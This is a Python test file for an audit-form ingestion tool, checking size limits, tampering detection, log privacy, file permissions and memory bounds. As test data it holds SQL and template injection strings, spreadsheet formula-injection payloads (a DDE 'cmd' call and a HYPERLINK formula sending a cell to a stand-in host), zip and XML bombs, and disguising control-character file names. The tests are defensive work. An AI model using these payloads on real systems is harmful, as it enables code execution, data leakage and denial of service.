    outcome = Ingester(ws, limits=Limits(max_file_bytes=1000)).one(Incoming("x.docx", audit_form, "x"), RECEIVED)
    assert outcome.status == REJECTED and "over the 1,000 bytes limit" in outcome.reason
    path = tmp_path / "x.docx"
    path.write_bytes(form(ws, 3))
    [outcome] = ingest(ws, [path], received_at=RECEIVED, limits=Limits(max_part_bytes=10_000)).outcomes
    assert outcome.status == REJECTED and "would expand to" in outcome.reason
    assert read_forms(ws, [path])[0].status == "ok"  # the defaults read every form we issue


def test_the_limits_a_genuine_file_can_meet_are_set_in_the_config(tmp_path):
    """A form with a big picture pasted in: refused under a 1 MB limit with a message that
    says where the limit is set (again if sent again, recorded once), read once the QA
    officer raises it (a rejected file is not "already received")."""
    ws = month_workspace(tmp_path / "qa")
    big = rezip(fill_form(blank_form(ws, "2026-11-001"), GOOD), {"word/media/photo.jpeg": os.urandom(1_500_000)})
    settings = ws.root / "config" / "organisation.yaml"
    original = settings.read_text()
    assert "  max_file_mb: 50 " in original
    for mb, accepted in ((1, False), (1, False), (2, True)):
        settings.write_text(original.replace("  max_file_mb: 50 ", f"  max_file_mb: {mb} ", 1))
        outcome = Ingester(Workspace(ws.root)).one(Incoming("big.docx", big, "x"), RECEIVED)
        if accepted:
            assert outcome.status == ACCEPTED, outcome.reason
        else:
            assert outcome.status == REJECTED
            assert "over the 1.0 MB limit (config/organisation.yaml limits.max_file_mb)" in (outcome.reason or "")
    with ws.store().reading() as conn:
        query = select(receipts.c.outcome).where(receipts.c.sha256 == outcome.sha256).order_by(receipts.c.id)
        assert conn.execute(query).scalars().all() == ["rejected", "accepted"]


# --- injection ---------------------------------------------------------------------------

TEMPLATE_SYNTAX = "{{ 7*7 }} {% for x in range(3) %}x{% endfor %} {{ config }} {# note #} ${7*7}"
SQL_ISH = 'Robert\'); DROP TABLE submissions; -- and "quotes" & <tags/>'


def test_template_syntax_in_evidence_is_kept_as_typed_never_run(ws, tmp_path):
    values = careless(GOOD, evidence=f"{TEMPLATE_SYNTAX} {GOOD['domain.assessment.evidence']}")
    values["plan.1.action"] = SQL_ISH
    path = tmp_path / "injection.docx"
    path.write_bytes(fill_form(form(ws, 4), values))
    [outcome] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert outcome.status == AMEND  # so feedback was written from the auditor's document
    current = ws.store().current_values("2026-11")["2026-11-004"]
    assert current["domain.assessment.evidence"] == values["domain.assessment.evidence"]
    assert current["plan.1.action"] == SQL_ISH
    feedback = read_forms(ws, [outcome.feedback[0]])[0]
    assert feedback.fields["domain.assessment.evidence"] == values["domain.assessment.evidence"]
    root = etree.fromstring(zipfile.ZipFile(outcome.feedback[0]).read("word/document.xml"))
    text = "".join(t.text or "" for t in root.iter(q("t")))
    assert "{{ 7*7 }} {% for x in range(3) %}x{% endfor %}" in text and "xxx" not in text
    assert ws.store().receipts_count() > 0  # the store's tables are all still there


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Open").docx',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheet programs accept
]


def test_the_summary_workbook_never_holds_a_formula(ws):
    outcomes = [
        Outcome(name=text, origin=text, status=REJECTED, reason=text, audit_id=text, converted_from=text)
        for text in FORMULAS
    ]
    path = write_summary(ws, BatchResult(outcomes), RECEIVED)
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    rows = list(load_workbook(path).active.iter_rows(min_row=2))
    for text, row in zip(FORMULAS, rows, strict=True):
        for col in (0, 1, 3, 4, 14):  # file, came from, reason, audit id, converted from
            cell = row[col]
            assert cell.value == text.replace("\r", "\n") or cell.value == text
            assert cell.data_type == "s" and cell.quotePrefix  # stays text when edited in Excel


def test_a_file_named_like_a_formula_is_text_in_the_summary(ws, tmp_path):
    path = tmp_path / "@SUM(1+1)=cmd.docx"
    path.write_bytes(b"%PDF-1.4")
    result = ingest(ws, [path], received_at=RECEIVED)
    sheet = zipfile.ZipFile(result.summary_path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_a_file_name_with_control_characters_neither_disguises_itself_nor_breaks_the_summary(ws, tmp_path):
    """A name with an escape sequence and a right-to-left override (the summary workbook
    used to fail on it, after the whole batch had been read)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "audit\x1b[2J\x07\u202excod.docx").write_bytes(b"%PDF-1.4 with a name")
    result = ingest(ws, [inbox], received_at=RECEIVED)
    [outcome] = result.outcomes
    assert outcome.status == REJECTED and outcome.name.endswith("audit_[2J__xcod.docx")
    assert not re.search(r"[\x00-\x1f\u202e]", "".join(result.report()))
    assert load_workbook(result.summary_path).active["A2"].value.endswith("audit_[2J__xcod.docx")


# --- integrity at the ingest level ---------------------------------------------------------


def test_an_edited_case_reference_does_not_move_a_return_to_another_case(ws, tmp_path):
    """The identity (signed) says which audit a file is; the case details shown are ours,
    locked, and not read back: editing them changes nothing."""
    store = ws.store()
    mine, other = store.allocation("2026-11-005")[0], store.allocation("2026-11-006")[0]

    def edit(root):
        shown = control(root, "case.reference")
        for t in shown.iter(q("t")):
            t.text = other.case_reference if t.text and t.text.strip() == mine.case_reference else t.text

    data = edit_document(fill_form(form(ws, 5), GOOD), edit)
    assert other.case_reference.encode() in parts_of(data)["word/document.xml"]
    path = tmp_path / f"{other.case_reference}.docx"
    path.write_bytes(data)
    [outcome] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert outcome.status == ACCEPTED and outcome.audit_id == "2026-11-005"
    assert outcome.allocation.case_reference == mine.case_reference
    assert [s["audit_id"] for s in store.submissions_of("2026-11-005")] == ["2026-11-005"]
    assert store.submissions_of("2026-11-006") == []


def test_a_forms_identity_moved_onto_another_forms_body_is_rejected(ws, tmp_path):
    """The custom properties of one audit's form pasted into another's package: the
    field list's hash no longer matches, or the identity check fails."""
    a, b = fill_form(form(ws, 7), GOOD), form(ws, 8, "improvement plan")
    swapped = rezip(b, {"docProps/custom.xml": parts_of(a)["docProps/custom.xml"]})
    path = tmp_path / "swapped.docx"
    path.write_bytes(swapped)
    [outcome] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert outcome.status == REJECTED
    assert re.search(r"field list was edited|integrity check failed|field .* was deleted", outcome.reason or "")


def test_a_return_that_shows_one_grade_and_stores_another_is_sent_back(tmp_path):
    """What the auditor sees is what is stored: a drop-down list edited to store Good for
    Inadequate, a hidden copy of the overall grade, and a field pasted twice with the same
    answer (accepted, with the warning stored for QA)."""
    ws = month_workspace(tmp_path / "qa")
    shown = {**GOOD, "overall.grade": "inadequate"}

    def edited_list(root):
        for item in control(root, "overall.grade").iter(q("listItem")):
            if item.get(q("displayText")) == "Inadequate":
                item.set(q("value"), "good")

    def hidden_copy(root):
        real = control(root, "overall.grade")
        copy = etree.fromstring(etree.tostring(real))
        for run in copy.iter(q("r")):
            if run.find(q("rPr")) is None:
                run.insert(0, etree.Element(q("rPr")))
            etree.SubElement(run.find(q("rPr")), q("vanish"))
        real.addprevious(copy)

    def twice(root):
        real = control(root, "overall.summary")
        real.addnext(etree.fromstring(etree.tostring(real)))

    cases = {"edited list.docx": (1, edited_list), "hidden copy.docx": (2, hidden_copy), "twice.docx": (3, twice)}
    for name, (n, edit) in cases.items():
        (tmp_path / name).write_bytes(edit_document(fill_form(form(ws, n), shown), edit))
    result = ingest(ws, [tmp_path / name for name in cases], received_at=RECEIVED)
    edited, hidden, twice = result.outcomes
    assert edited.status == AMEND and hidden.status == AMEND, (edited.reason, hidden.reason)
    assert any("list of choices in this field was edited" in f.message for f in edited.findings)
    assert any("hidden copy of this field" in f.message for f in hidden.findings)
    assert twice.status == ACCEPTED and twice.values_to_confirm == 1
    store = ws.store()
    [sub] = store.submissions_of("2026-11-003")
    assert [f.message for f in store.findings_of(sub["id"]) if f.field == "overall.summary"] == [
        "the form has this field twice, with the same answer; the copy was ignored"
    ]
    stored = store.current_values("2026-11", "overall.grade")
    assert stored["2026-11-001"]["overall.grade"] is None  # not the "good" the edited list held
    assert stored["2026-11-002"]["overall.grade"] == "inadequate"  # what Word shows


# --- privacy ------------------------------------------------------------------------------

EVIDENCE_MARK = "Zebedee-Quillfeather saw the bruising"


def test_logs_and_the_summary_hold_no_evidence_text(ws, tmp_path, caplog, monkeypatch):
    evidence = f"{EVIDENCE_MARK}. {GOOD['domain.assessment.evidence']}"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "a accepted.docx").write_bytes(fill_form(form(ws, 10), {**GOOD, "domain.assessment.evidence": evidence}))
    (inbox / "b amend.docx").write_bytes(fill_form(form(ws, 11), careless(GOOD, evidence)))
    (inbox / "c corrupt.docx").write_bytes(fill_form(form(ws, 12), careless(GOOD, evidence))[:5000])
    with caplog.at_level(logging.DEBUG):
        result = ingest(ws, [inbox], received_at=RECEIVED)
    assert [o.status for o in result.outcomes] == [ACCEPTED, AMEND, REJECTED]
    # a bug whose message quotes the document: the log says where, never what
    path = tmp_path / "bug.docx"
    path.write_bytes(fill_form(form(ws, 1, "improvement plan"), {"plan.1.action": evidence}))

    def buggy(*args, **kwargs):
        raise ValueError(f"cannot judge {evidence!r}")

    monkeypatch.setattr(ingest_module, "validate", buggy)
    with caplog.at_level(logging.DEBUG):
        [bug] = ingest(ws, [path], received_at=RECEIVED).outcomes
    assert bug.status == REJECTED and "could not be processed (ValueError)" in bug.reason
    assert any("unexpected ValueError" in r.getMessage() for r in caplog.records)
    for record in caplog.records:
        logged = record.getMessage() + (record.exc_text or "") + str(record.exc_info or "")
        assert EVIDENCE_MARK not in logged, record.getMessage()
    rows = load_workbook(result.summary_path).active.iter_rows(values_only=True)
    assert EVIDENCE_MARK not in json.dumps([list(map(str, r)) for r in rows])
    report = "\n".join(result.report())
    assert EVIDENCE_MARK not in report


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_files_we_write_are_readable_by_the_owner_only(ws, tmp_path):
    path = tmp_path / "amend.docx"
    path.write_bytes(fill_form(form(ws, 6, "improvement plan"), {"plan.1.owner": "TBC"}))
    result = ingest(ws, [path], received_at=RECEIVED)
    [outcome] = result.outcomes
    assert outcome.feedback, outcome.reason
    files = [
        *ws.output_dir.glob("2026-11/*/*.docx"),  # generated forms
        *(ws.state_dir / "archive").rglob("*"),  # every file received
        *outcome.feedback,  # the commented copy and its e-mail
        result.summary_path,
        ws.state_dir / "store.sqlite",
        ws.key_path,
    ]
    files = [f for f in files if f.is_file()]
    assert len(files) > 30
    assert {str(f.relative_to(ws.root)): oct(mode(f)) for f in files if mode(f) != 0o600} == {}
    folders = {
        ws.output_dir,
        ws.state_dir,
        *(p for p in (ws.state_dir / "archive").rglob("*") if p.is_dir()),
        ws.state_dir / "archive",
        *(p.parent for p in ws.output_dir.rglob("*") if p.is_file()),
        *(p.parent.parent for p in ws.output_dir.rglob("*") if p.is_file() and p.parent != ws.output_dir),
    }
    assert {str(f.relative_to(ws.root)): oct(mode(f)) for f in folders if mode(f) != 0o700} == {}


# --- bounded memory, measured in a process of its own ----------------------------------------

MEASURE = textwrap.dedent(
    """
    import json, resource, sys, time
    from pathlib import Path
    from auditdocs.forms.parse import parse_bytes

    def status(field):  # kB -> bytes, from /proc/self/status (Linux)
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
        raise OSError(field)

    def reset_peak():  # Linux resets VmHWM (peak RSS) on "5"; elsewhere the peak only grows
        try:
            Path("/proc/self/clear_refs").write_text("5")
        except OSError:
            pass

    def peak():
        try:
            return status("VmHWM")
        except OSError:  # not Linux: ru_maxrss (after exec it may still hold the parent's peak)
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

    def now():
        try:
            return status("VmRSS")
        except OSError:
            return peak()

    out = {}
    for path in sorted(Path(sys.argv[1]).iterdir()):
        data = path.read_bytes()
        reset_peak()
        before, started = now(), time.perf_counter()
        result = parse_bytes(data, path.name, b"k" * 32)
        out[path.name] = {
            "status": result.status,
            "message": result.issues[0].message if result.issues else "",
            "grown": peak() - before,
            "seconds": time.perf_counter() - started,
        }
        del data, result
    print(json.dumps(out))
    """
)


def test_memory_stays_bounded_on_every_attack(audit_form, tmp_path):
    """Peak memory (RSS) during each parse, less the memory in use just before it (the
    file's bytes already read), stays under 200 MB for every attack.  Where the peak
    cannot be reset between files, an attack is charged for any earlier, higher peak."""
    folder = tmp_path / "attacks"
    folder.mkdir()
    base = parts_of(audit_form)
    attacks = {
        "1 ratio bomb": rezip(audit_form, {"word/media/bomb.bin": b"\0" * (20 * MB)}),
        "2 laughs": rezip(audit_form, {"word/document.xml": with_dtd(base["word/document.xml"], LAUGHS)}),
        "3 deep": rezip(audit_form, {"word/document.xml": document_xml(b"<w:p>" * 50_000 + b"</w:p>" * 50_000)}),
        "4 many parts": stored(base | {f"m/{n}.xml": b"" for n in range(5000)}),
        "5 ole table": ole_with_a_huge_sector_table(200_000),
        # the largest tree allowed: just under the node limit, every node with an attribute
        "6 nodes at the limit": stored(base | {"word/document.xml": document_xml(b'<w:p w:a=""/>' * 149_000)}),
        "7 many parts at the size limit": stored(
            base | {f"word/media/{n}.bin": bytes(DEFAULT_LIMITS.max_part_bytes - 1) for n in range(3)}
        ),
        # just under the compression-ratio check (parts above 1 MB) and the total: each part
        # is inflated to be verified, and none is held before the identity is checked
        "8 parts of zeros": rezip(audit_form, {f"word/media/{n}.bin": bytes(MB) for n in range(240)}),
        "9 xml parts of zeros": rezip(audit_form, {f"customXml/junk{n}.xml": bytes(MB) for n in range(240)}),
    }
    # a form with junk beside it is still a form: only the memory and time matter here
    readable = {"8 parts of zeros", "9 xml parts of zeros"}
    for name, data in attacks.items():
        (folder / name).write_bytes(data)
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, str(folder)], capture_output=True, text=True, timeout=120, check=True
    )
    measured = json.loads(run.stdout)
    assert set(measured) == set(attacks)
    for name, m in measured.items():
        assert m["status"] == "rejected" or name in readable, (name, m)
        assert m["grown"] < (60 if name in readable else 200) * MB, (name, m["grown"] / MB)
        assert m["seconds"] < 5, (name, m["seconds"])


def test_a_package_is_opened_with_its_limits(audit_form):
    pkg = Package(audit_form)
    assert pkg.limits == DEFAULT_LIMITS
    pkg.verify()  # every part of a form we issued reads back whole
